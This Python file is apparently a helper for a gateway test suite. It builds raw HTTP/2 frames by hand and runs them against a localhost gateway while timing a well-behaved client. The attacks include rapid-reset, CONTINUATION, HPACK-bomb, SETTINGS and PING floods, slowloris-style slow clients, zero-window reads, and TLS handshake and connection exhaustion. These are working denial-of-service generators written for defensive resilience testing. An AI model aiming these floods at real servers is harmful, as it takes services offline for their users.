# SPDX-License-Identifier: EUPL-1.2
"""Who attacks a gateway, and the good client beside them: each a process of its own, started by test_floods.py.

    attackers.py NAME PORT TRUST SECONDS     prints what it saw, as one JSON line

Frames are made by hand (RFC 9113 §4), beforehand, so that Python sends as fast as the gateway reads."""

import collections
import json
import os
import random
import select
import socket
import ssl
import sys
import time

from tls_client import hello, server_names

GOOD = "dead.finance.localhost"  # test_floods.py gives this application an origin of its own
OPEN = "open.finance.localhost"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
PRIORITY_UPDATE = 16
END_STREAM, END_HEADERS, ACK = 1, 4, 1
RATE = 200  # of the good client, a second
STREAMS = range(1, 8001, 2)


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def number(value):
    return value.to_bytes(4, "big")


def literal(index, text):
    """A field of the static table's name, not indexed (RFC 7541 §6.2.2)."""
    length = bytes([len(text)]) if len(text) < 127 else b"\x7f" + varint(len(text) - 127)
    return bytes([index]) + length + text


def varint(value):
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def block(path, host=OPEN, post=False):
    return (b"\x83" if post else b"\x82") + b"\x87" + literal(1, host.encode()) + literal(4, path.encode())


def get(stream, path, host=OPEN):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block(path, host))


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BIG_WINDOW = frame(WINDOW_UPDATE, 0, 0, number(2**30))


def start(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(key.to_bytes(2, "big") + number(value) for key, value in settings))


class Line:
    """A TLS connection that never blocks once it stands."""

    def __init__(self, port, trust, host, alpn, address, small=False):
        context = ssl.create_default_context(cafile=trust)
        context.set_alpn_protocols([alpn])
        plain = socket.socket()
        if small:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        plain.bind((address, 0))
        plain.settimeout(5)
        try:
            plain.connect(("127.0.0.1", port))
            plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            self.tls = context.wrap_socket(plain, server_hostname=host)
        except BaseException:
            plain.close()
            raise
        self.tls.setblocking(False)
        self.out = memoryview(b"")
        self.rest = b""
        self.is_plain = alpn != "h2"
        self.sent = 0
        self.goaway = None

    def say(self, data):
        assert not self.out
        self.out = memoryview(data)

    def turn(self, wait_s=0.05, reads=True):
        """Sends what it can, and returns the frames that came, as (type, flags, stream, payload); raises OSError at
        the end."""
        select.select([self.tls] if reads else [], [self.tls] if self.out else [], [], wait_s)
        broken = None
        try:
            while self.out:
                size = self.tls.send(self.out[:16384])
                self.sent += size
                self.out = self.out[size:]
                if not size:
                    break
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError as error:
            broken = error
        while reads:
            try:
                data = self.tls.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except OSError as error:
                broken = error
                break
            if not data:
                broken = ConnectionResetError("the end")
                break
            self.rest += data
        frames = self.frames() if reads and not self.is_plain else []
        if broken:
            raise broken
        return frames

    def frames(self):
        found = []
        while len(self.rest) >= 9 and len(self.rest) >= (whole := 9 + int.from_bytes(self.rest[:3], "big")):
            one, self.rest = self.rest[:whole], self.rest[whole:]
            found.append((one[3], one[4], int.from_bytes(one[5:9], "big"), one[9:]))
            if one[3] == GOAWAY:
                self.goaway = int.from_bytes(one[13:17], "big")
        return found

    def close(self):
        self.tls.close()


def good(port, trust, seconds):
    """Open loop: what is late by the gateway's fault is late from when it was due, and the next ones are sent anyway."""
    line = Line(port, trust, GOOD, "h2", "127.0.0.1")
    line.say(start((3, 1000)) + BIG_WINDOW)
    due, latencies, errors = {}, [], []
    begin = time.monotonic() + 0.05
    count = int(seconds * RATE)
    sent = 0
    while len(latencies) + len(errors) < count and time.monotonic() < begin + seconds + 5:
        now = time.monotonic()
        while sent < count and begin + sent / RATE <= now and not line.out:
            stream = 2 * sent + 1
            due[stream] = begin + sent / RATE
            line.say(get(stream, "/good", GOOD))
            sent += 1
        try:
            came = line.turn(max(0, min(0.05, begin + sent / RATE - time.monotonic())))
        except OSError as error:
            errors.append(f"{error}, GOAWAY {line.goaway}")
            break
        now = time.monotonic()
        for kind, flags, stream, payload in came:
            if kind == HEADERS and payload[:1] != b"\x88":  # :status 200
                errors.append(f"an answer {payload[:8]!r}")
            if kind == RST_STREAM and stream in due:
                errors.append(f"RST_STREAM {payload!r}")
                del due[stream]
            if kind in (DATA, HEADERS) and flags & END_STREAM and stream in due:
                latencies.append(now - due.pop(stream))
    if due and not errors:
        errors.append(f"{len(due)} without an answer")
    latencies.sort()
    return {"count": len(latencies), "errors": errors, "p50": latencies[len(latencies) // 2] if latencies else None,
            "p99": latencies[int(len(latencies) * 0.99)] if latencies else None}


# Floods over HTTP/2: what a connection begins with, and what it then says again and again.

def rapid_reset():
    return start(), b"".join(get(i, "/rapid") + frame(RST_STREAM, 0, i, number(8)) for i in STREAMS)


def made_you_reset():  # an increment that overflows the stream's window makes the server reset it
    return start(), b"".join(get(i, "/made") + frame(WINDOW_UPDATE, 0, i, number(2**31 - 1)) for i in STREAMS)


def continuation():
    return start() + frame(HEADERS, 0, 1, block("/c")), frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 20) * 1000


def empty_continuation():
    return start() + frame(HEADERS, 0, 1, block("/c")), frame(CONTINUATION, 0, 1) * 4000


def settings():
    return start(), frame(SETTINGS, 0, 0, b"\x00\x04" + number(65535)) * 4000


def ping():
    return start(), frame(PING, 0, 0, b"12345678") * 4000


def priority():
    return start(), b"".join(frame(PRIORITY, 0, i, number(0) + b"\x10") for i in STREAMS)


def priority_update():
    return start(), b"".join(frame(PRIORITY_UPDATE, 0, 0, number(i) + b"u=1") for i in STREAMS)


def empty_data():
    return start() + frame(HEADERS, END_HEADERS, 1, block("/held", post=True)), frame(DATA, 0, 1) * 4000


def empty_headers():
    return start(), b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i) for i in STREAMS)


def window_updates():
    return start() + get(1, "/never"), (frame(WINDOW_UPDATE, 0, 0, number(1)) + frame(WINDOW_UPDATE, 0, 1, number(1))) * 2000


def window_drops():  # a big answer, a byte at a time
    return start((4, 0)) + b"".join(get(i, "/bytes/9000000") for i in range(1, 101, 2)), b"".join(
        frame(WINDOW_UPDATE, 0, i, number(1)) for i in range(1, 101, 2)) * 40


def hpack_bomb():  # one field of 4,000 bytes, put in the table, then named by one byte each
    fill = b"\x40\x01x" + b"\x7f" + varint(3900 - 127) + b"y" * 3900
    return start(), b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, i, block("/b") + (fill if i == 1 else b"") + b"\xbe" * 12000)
        for i in range(1, 41, 2))


def hpack_small_bomb():  # below what ends a connection, and refused each time
    fill = b"\x40\x01x" + b"\x7f" + varint(3900 - 127) + b"y" * 3900
    return start(), b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, i, block("/b") + (fill if i == 1 else b"") + b"\xbe" * 200)
        for i in STREAMS[:1000])


FLOODS = {one.__name__: one for one in (
    rapid_reset, made_you_reset, continuation, empty_continuation, settings, ping, priority, priority_update, empty_data,
    empty_headers, window_updates, window_drops, hpack_bomb, hpack_small_bomb)}


def flood(name, port, trust, seconds):
    """As many connections, one after the other, as it gets; the ends of those that began."""
    first, again = FLOODS[name]()
    ends, sent, longest = collections.Counter(), 0, 0
    end = time.monotonic() + seconds
    address = f"127.0.0.{os.getpid() % 200 + 2}"
    while time.monotonic() < end:
        try:
            line = Line(port, trust, OPEN, "h2", address)
        except OSError:
            ends["turned away"] += 1
            time.sleep(0.001)
            continue
        line.say(first)
        try:
            began = time.monotonic()
            while time.monotonic() < end:
                if not line.out:
                    line.say(again)
                line.turn()
            ends["goes on"] += 1
        except OSError:
            ends[f"GOAWAY {line.goaway}"] += 1
        longest = max(longest, time.monotonic() - began)
        sent += line.sent
        line.close()
    return {"ends": ends, "bytes": sent, "longest_s": longest}


# Clients that are slow, or take nothing. Each holds connections, and opens another where one was ended.

def slow_heads_h1():
    return "http/1.1", b"GET / HTTP/1.1\r\nhost: " + OPEN.encode() + b"\r\n", b"a: b\r\n"


def slow_heads_h2():
    return "h2", start() + frame(HEADERS, END_STREAM, 1, block("/")), frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")


def slow_bodies_h1():
    return "http/1.1", b"POST /slow HTTP/1.1\r\nhost: " + OPEN.encode() + b"\r\ncontent-length: 100000\r\n\r\n", b"b" * 100


def slow_bodies_h2():
    return "h2", start() + b"".join(frame(HEADERS, END_HEADERS, i, block("/slow", post=True)) for i in range(1, 21, 2)), \
        b"".join(frame(DATA, 0, i, b"b" * 10) for i in range(1, 21, 2))


def silent():
    return "h2", b"", b""


def zero_window_h2():
    return "h2", start((4, 0)) + b"".join(get(i, "/bytes/90000000") for i in range(1, 81, 2)), b""


def zero_window_h1():
    return "http/1.1", b"GET /bytes/90000000 HTTP/1.1\r\nhost: " + OPEN.encode() + b"\r\n\r\n", b""


SLOW = {one.__name__: one for one in (slow_heads_h1, slow_heads_h2, slow_bodies_h1, slow_bodies_h2, silent, zero_window_h1,
                                      zero_window_h2)}
SLOW_CONNECTIONS = 60
DROP_EVERY_S = 0.4


def slow(name, port, trust, seconds):
    alpn, first, drop = SLOW[name]()
    reads = name != "zero_window_h1"
    lines, ends, last_drop = [], collections.Counter(), time.monotonic()
    end = time.monotonic() + seconds
    address = f"127.0.0.{os.getpid() % 200 + 2}"
    ages = []
    count = 6 if name == "zero_window_h2" else SLOW_CONNECTIONS
    while time.monotonic() < end:
        while len(lines) < count:
            try:
                line = Line(port, trust, OPEN, alpn, address, small=not reads)
            except OSError:
                ends["turned away"] += 1
                break
            line.began = time.monotonic()
            line.say(first)
            lines.append(line)
        now = time.monotonic()
        drops = drop if now - last_drop > DROP_EVERY_S else b""
        last_drop = now if drops else last_drop
        for line in list(lines):
            if drops and not line.out:
                line.say(drops)
            try:
                came = line.turn(0, reads)
                if line.rest.startswith(b"HTTP/1.1 4"):
                    raise ConnectionResetError(line.rest[:12])
                if any(kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM) for kind, flags, *_ in came):
                    raise ConnectionResetError("reset")
            except OSError:
                ends["ended"] += 1
                ages.append(time.monotonic() - line.began)
                lines.remove(line)
                line.close()
        time.sleep(0.02)
    ends["goes on"] += len(lines)
    for line in lines:
        line.close()
    return {"ends": ends, "longest_s": max(ages, default=0)}


def handshakes(port, trust, seconds):
    """A hello, for which the gateway makes keys and signs; then the next, never an answer."""
    made, ends = 0, collections.Counter()
    end = time.monotonic() + seconds
    one = hello(server_names(OPEN.encode()))
    poll = collections.deque()
    while time.monotonic() < end:
        plain = socket.socket()
        plain.bind((f"127.0.0.{random.randrange(2, 6)}", 0))
        plain.settimeout(1)
        try:
            plain.connect(("127.0.0.1", port))
            plain.sendall(one)
            made += 1
            poll.append(plain)
        except OSError:
            ends["turned away"] += 1
            plain.close()
        if len(poll) > 20:
            oldest = poll.popleft()
            try:
                ends["answered" if oldest.recv(1) else "turned away"] += 1
            except OSError:
                ends["turned away"] += 1
            oldest.close()
    return {"ends": ends, "hellos": made}


def connections(port, trust, seconds):
    """As many as it gets, held."""
    held, ends = [], collections.Counter()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        plain = socket.socket()
        plain.bind((f"127.0.0.{random.randrange(2, 6)}", 0))
        plain.settimeout(1)
        try:
            plain.connect(("127.0.0.1", port))
            held.append(plain)
        except OSError:
            ends["turned away"] += 1
            plain.close()
        if len(held) > 800:
            held.pop(0).close()
            ends["opened"] += 1
    return {"ends": ends}


if __name__ == "__main__":
    what, port, trust, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    if what in FLOODS:
        seen = flood(what, port, trust, seconds)
    elif what in SLOW:
        seen = slow(what, port, trust, seconds)
    else:
        seen = {"good": good, "handshakes": handshakes, "connections": connections}[what](port, trust, seconds)
    print(json.dumps(seen))
